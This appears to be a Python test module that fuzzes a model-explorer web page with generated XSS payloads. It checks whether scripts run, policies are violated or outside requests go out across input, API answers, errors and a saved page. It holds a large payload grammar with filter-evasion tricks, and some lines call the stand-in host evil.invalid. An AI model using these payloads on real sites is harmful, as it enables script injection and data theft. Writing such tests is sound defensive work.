"""XSS payloads wherever a text can stand on the explorer's page.

A grammar makes the texts. Each is typed as input (shown in one view after the other), stands as a token,
as a word of the vocabulary and of the search, as the answer, as a model's name and as the text of an error;
tokens are shown in every view, of the page and of the page in a file.
"""

from __future__ import annotations

import json
import random
import tempfile
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field, replace
from html import escape
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode

from qa.browser import chromium, served
from qa.result import Result
from regard.interpret import Trace
from regard.tasks import load

BREAKERS = [
    "",
    '"',
    "'",
    "</script>",
    "-->",
    "</textarea>",
    "</title>",
    "]]>",
    "</style>",
    "&quot;>",
    "`",
    "${hit=1}",
]
BREAKERS += [
    "</option></select>",
    "{{hit=1}}",
    "%22%3e",
    "\u2028",
    "\x00",
    "\u202e",
    "</bdi></td>",
    "</svg>",
    "\\",
]
CODES = [
    "hit=1",
    "alert(1)",
    "fetch('https://evil.invalid/')",
    "document.title='hit'",
    "top.hit=1",
    "eval('hit=1')",
]
CODES += [
    "import('https://evil.invalid/a.js')",
    "new Image().src='//evil.invalid/'",
    "location='javascript:hit=1'",
]
ELEMENTS = [
    "<script>{code}</script>",
    "<script src=//evil.invalid/a.js></script>",
    "<img src=x onerror={code}>",
    "<img src=//evil.invalid/a.png>",
    "<svg onload={code}>",
    "<svg><script>{code}</script></svg>",
    "<svg><a xlink:href='javascript:{code}'><text>x</text></a></svg>",
    "<iframe srcdoc='<script>{code}</script>'></iframe>",
    "<iframe src='javascript:{code}'></iframe>",
    "<a href='javascript:{code}' autofocus onfocus={code}>x</a>",
    "<body onload={code}>",
    "<details open ontoggle={code}>",
    "<input autofocus onfocus={code}>",
    "<video><source onerror={code}></video>",
    "<object data='javascript:{code}'></object>",
    "<embed src='data:text/html,<script>{code}</script>'>",
    "<link rel=stylesheet href=//evil.invalid/a.css>",
    "<meta http-equiv=refresh content='0;url=javascript:{code}'>",
    "<base href=//evil.invalid/>",
    "<form action=//evil.invalid/><button>x</button></form>",
    "<style>@import '//evil.invalid/a.css';*{{background:url(//evil.invalid/b)}}</style>",
    "<template><script>{code}</script></template>",
    "<math><mtext></p><img src=x onerror={code}></mtext></math>",
    "<p style='background:url(//evil.invalid/c)'>",
    "javascript:{code}",
    "data:text/html,<script>{code}</script>",
    "=HYPERLINK('//evil.invalid/')",
]
TAILS = ["", "<!--", "//", "'\"", " x=", "<", "&lt;", "\u202c"]
NOTE = """window.broken = 0;
document.addEventListener("securitypolicyviolation", () => { window.broken++; });"""
TYPE = """async ([text, view]) => {
  const pause = () => new Promise(done => setTimeout(done, 5));
  const idle = async () => { do await pause(); while (document.body.hasAttribute("aria-busy")); };
  document.getElementById(`tab-${view}`).click();
  await idle();
  document.getElementById("text").value = text;
  document.getElementById("ask").requestSubmit();
  await idle();
  const [asked, trouble] = ["asked", "trouble"].map(id => document.getElementById(id).textContent);
  return [asked, new URLSearchParams(location.search).get("text"), trouble];
}"""


def payloads(count: int, seed: int) -> list[str]:
    chance = random.Random(seed)
    found: dict[str, None] = {}
    while len(found) < count:
        found[one(chance)] = None
    return list(found)


def one(chance: random.Random) -> str:
    code = chance.choice(CODES)
    element = chance.choice(ELEMENTS).format(code=code)
    disguise = chance.choice([str, str, str, mixed, escape, quote, slashed, doubled])
    return f"{chance.choice(BREAKERS)}{disguise(element)}{chance.choice(TAILS)}"


def mixed(text: str) -> str:
    return "".join(sign.upper() if place % 2 else sign for place, sign in enumerate(text))


def slashed(text: str) -> str:
    return text.replace(" ", "/", 1)


def doubled(text: str) -> str:
    return text.replace("<", "<<").replace("script", "scr\x00ipt")


@dataclass
class Found:
    """What should not have happened, and how many texts were shown."""

    ran: int = 0
    reports: int = 0
    requests: list[str] = field(default_factory=list)
    changed: list[str] = field(default_factory=list)
    shown: int = 0

    def look(self, page: Any) -> None:
        self.ran += bool(page.evaluate("'hit' in window || document.title === 'hit'"))
        self.reports += page.evaluate("window.broken")
        page.evaluate("window.broken = 0")

    def compare(self, sent: Sequence[str], seen: Sequence[str] | str) -> None:
        """Each text that was sent is among those seen, or a part of the one."""
        self.changed += [text for text in sent if text not in seen]
        self.shown += len(sent)


def opened(browser: Any, found: Found, own: str, **settings: Any) -> Any:
    page = browser.new_context(viewport={"width": 1280, "height": 900}, **settings).new_page()
    page.add_init_script(NOTE)

    def dialog(it: Any) -> None:
        found.ran += 1
        it.dismiss()

    page.on("dialog", dialog)
    page.on("request", lambda asked: None if asked.url.startswith(own) else found.requests.append(asked.url))
    return page


def views(page: Any) -> Iterator[str]:
    """Every view, shown."""
    for view in page.eval_on_selector_all("#tabs [role=tab]", "tabs => tabs.map(tab => tab.id.slice(4))"):
        page.click(f"#tab-{view}")
        page.wait_for_selector(f"#panel[data-view={view}] h2")
        yield view


def as_input(browser: Any, address: str, texts: Sequence[str], found: Found) -> None:
    page = opened(browser, found, address)
    page.goto(f"{address}/?text=a&view=input")
    page.wait_for_selector("#panel[data-view=input] h2")
    names = page.eval_on_selector_all("#tabs [role=tab]", "tabs => tabs.map(tab => tab.id.slice(4))")
    for number, text in enumerate(texts):
        asked, kept, trouble = page.evaluate(TYPE, [text, names[number % len(names)]])
        if not trouble:
            found.compare([text], [text if asked and asked in text else asked])  # a sentence of it runs
        found.compare([text], [kept])
        found.look(page)
    page.context.close()


def dressed(told: Any, texts: Iterator[str], used: list[str]) -> Any:
    """An answer of the server whose every text to show is one of ours."""
    if isinstance(told, dict):
        return {
            name: take(each, texts, used)
            if name in ("shown", "output", "text", "texts", "word", "sentence")
            else dressed(each, texts, used)
            for name, each in told.items()
        }
    return [dressed(each, texts, used) for each in told] if isinstance(told, list) else told


def take(value: Any, texts: Iterator[str], used: list[str]) -> Any:
    if isinstance(value, list):
        return [take(each, texts, used) for each in value]
    if not isinstance(value, str):
        return dressed(value, texts, used)
    used.append(next(texts))
    return used[-1]


def endless(texts: Sequence[str]) -> Iterator[str]:
    while True:
        yield from texts


def as_answer(browser: Any, address: str, texts: Sequence[str], found: Found) -> None:
    """Tokens, words, the search, the output and the model's name, in every view."""
    page = opened(browser, found, address)
    flow = endless(texts)
    sent: dict[
        str, list[str]
    ] = {}  # by what was asked; a run that is asked for again is shown as it came first

    def answer(route: Any) -> None:
        real = route.fetch()
        route.fulfill(response=real, json=dressed(real.json(), flow, []))

    def models(route: Any) -> None:
        real = route.fetch()
        content = real.json()
        for each in content["models"]:
            each["name"] = next(flow)
        route.fulfill(response=real, json=content)

    def asked(route: Any) -> None:  # the server knows its model by another name
        body = {**route.request.post_data_json, "model": ""}
        real = route.fetch(post_data=json.dumps(body))
        content = dressed(real.json(), flow, [])
        content["vocabulary"] = {number: next(flow) for number in content["vocabulary"]}
        shown = [text for side in content["tokens"].values() for text in side["shown"]]
        sent.setdefault(body["source"], [content["output"], *shown])
        route.fulfill(response=real, json=content)

    page.route("**/api/v1/trace", asked)
    page.route("**/api/v1/models", models)
    page.route("**/api/v1/compare*", answer)
    for number in range(max(1, len(texts) // 25)):
        text = f"the small cat {number}"
        page.goto(f"{address}/?{urlencode({'text': text, 'view': 'input', 'query': 1, 'key': 1})}")
        page.wait_for_selector("#panel[data-view=input] h2:not(.welcome *)")
        found.compare(sent[text][:1], page.text_content("#answer-text"))
        found.compare(sent[text][1:4], page.text_content("#panel"))
        for _view in views(page):
            found.look(page)
    page.context.close()


def as_error(browser: Any, address: str, texts: Sequence[str], found: Found) -> None:
    page = opened(browser, found, address)
    page.goto(f"{address}/?view=input")
    page.wait_for_selector("#panel[data-view=input] h2:not(.welcome *)")  # the example that the page opens on

    def refuse(route: Any) -> None:  # by the text, since the page may ask more than once
        number = int(route.request.post_data_json["source"].split()[-1])
        route.fulfill(status=400, json={"error": texts[number]})

    page.route("**/api/v1/trace", refuse)
    for number, text in enumerate(texts):
        page.fill("#text", f"ask {number}")
        page.press("#text", "Enter")
        page.wait_for_function("text => document.getElementById('trouble').textContent === text", arg=text)
        found.shown += 1
        found.look(page)
    page.context.close()


def in_file(browser: Any, trace: Trace, texts: Sequence[str], found: Found) -> None:
    """The page in a file, from a disk, without a network."""
    page = opened(browser, found, "file:", offline=True)
    flow = endless(texts)
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "page.html"
        for _ in range(max(1, len(texts) // 25)):
            tokens = {
                s: replace(own, texts=tuple(next(flow) for _ in own.ids)) for s, own in trace.tokens.items()
            }
            meta = {**trace.meta, "text": next(flow), "model": next(flow)}
            words = {number: next(flow) for number in trace.vocabulary}
            beam = tuple(replace(node, text=next(flow)) for node in trace.beam)
            own = replace(trace, tokens=tokens, output=next(flow), meta=meta, vocabulary=words, beam=beam)
            own.page().save(path)
            page.goto(f"file://{path}")
            page.wait_for_selector("#panel[data-view] h2")
            found.compare([own.output], page.text_content("#answer-text"))
            found.compare([meta["text"]], page.text_content("#asked"))
            for _view in views(page):
                found.look(page)
    page.context.close()


def run(browser: Any, address: str, trace: Trace, texts: Sequence[str]) -> Found:
    found = Found()
    as_input(browser, address, texts, found)
    as_answer(browser, address, texts, found)
    as_error(browser, address, texts, found)
    in_file(browser, trace, texts, found)
    return found


def trial(model: Path, count: int, seed: int) -> Result:
    task: Any = load(model, "cpu", 1)
    with served({model.name: task}) as address, chromium() as browser:
        found = run(browser, address, task.trace("a small house"), payloads(count, seed))
    figure = {"shown": found.shown, "scripts": found.ran, "reports": found.reports}
    wrong = [f"asked for {address}" for address in found.requests]
    wrong += [f"shown otherwise: {text!r}" for text in found.changed]
    return Result("xss", count, found.ran + found.reports + len(wrong), figure, seed, {}, wrong)
